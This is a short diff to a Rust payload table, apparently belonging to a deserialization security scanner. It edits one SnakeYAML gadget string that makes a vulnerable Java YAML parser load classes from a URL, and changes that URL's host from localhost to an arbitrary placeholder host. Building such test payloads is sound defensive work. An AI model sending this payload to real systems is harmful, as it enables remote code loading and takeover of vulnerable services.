@@ -62,7 +62,7 @@ pub(super) const PAYLOADS: &[Payload] = &[
     ),
     object(
         "yaml-java-class-loader",
-        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1:{P}/{C}/\"]]]]",
+        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{A}:{P}/{C}/\"]]]]",
         Effect::Connects,
         "[['{C}']]",
         "SnakeYAML before 2.0 calls constructors; this one looks for services at the URL",
